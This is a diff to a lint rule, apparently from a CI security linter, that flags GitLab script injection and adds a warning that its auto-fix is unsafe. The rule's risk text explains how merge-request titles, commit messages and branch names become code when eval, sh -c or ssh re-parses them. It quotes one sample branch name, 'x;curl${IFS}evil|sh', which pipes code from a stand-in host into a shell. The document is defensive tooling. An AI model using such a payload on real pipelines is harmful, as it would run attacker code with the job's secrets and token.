@@ -15,6 +15,8 @@ export default defineRule({
     aliases: ['gitlab-injection'],
     appliesTo: ['gitlab'],
     fixable: true,
+    fixSafety:
+      'Unsafe: quoting the variable stops the shell from re-parsing its text, which also stops any word splitting or command text a pipeline relied on; review the command.',
     docs: {
       risk: 'GitLab hands predefined variables to the job shell as data, so `echo "$CI_MERGE_REQUEST_TITLE"` is safe. But when the outer shell expands the value into a command string that `eval`, `sh -c "…"`, `python -c "…"` or ssh runs, the text becomes code: a merge-request title, a commit message (a squashed merge request description lands on the default branch with its protected variables) or a branch name such as `x;curl${IFS}evil|sh` runs with the job\'s CI/CD variables and `CI_JOB_TOKEN`. `$[[ inputs.x ]]` is substituted into the script text before any shell runs, so a string input is code too.',
       remediation:
